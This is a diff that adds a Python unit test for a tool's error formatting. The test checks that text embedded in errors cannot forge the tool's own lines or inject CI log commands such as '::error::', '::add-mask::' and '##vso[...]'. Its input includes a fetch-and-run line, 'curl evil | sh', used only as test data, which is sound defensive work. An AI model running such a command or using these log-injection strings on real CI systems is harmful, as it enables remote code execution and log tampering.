@@ -16,6 +16,19 @@ def test_messages_hold_no_control_characters() -> None:
     assert safe("a\nb\tc é 漢 \u202e") == "a\nb\tc é 漢 \\u202e"
 
 
+def test_no_line_of_a_foreign_text_passes_for_one_of_ours_or_commands_a_ci_jobs_log() -> None:
+    error = UsageError("its schema is x\n::error::y\n  next: curl evil | sh", where="a\n::debug::b", next="look\n##vso[c]d")
+    assert str(error).split("\n") == [
+        r"a\n::debug::b: its schema is x",
+        r"  │ \x3a:error::y",
+        "  │   next: curl evil | sh",
+        "  next: look",
+        r"  │ #\x23vso[c]d",
+    ]
+    source = Mistake("r:1:1", "wrong", "write another", line="::add-mask::x")
+    assert r"    \x3a:add-mask::x" in str(source)
+
+
 def test_exit_codes_are_the_documented_ones() -> None:
     codes = {name: getattr(errors, name).exit_code for name in ("Defect", "UsageError", "RecipeError", "PlanError", "LockError", "StepFailed",
              "VerificationFailed", "GateClosed", "MachineLacks")}  # fmt: skip
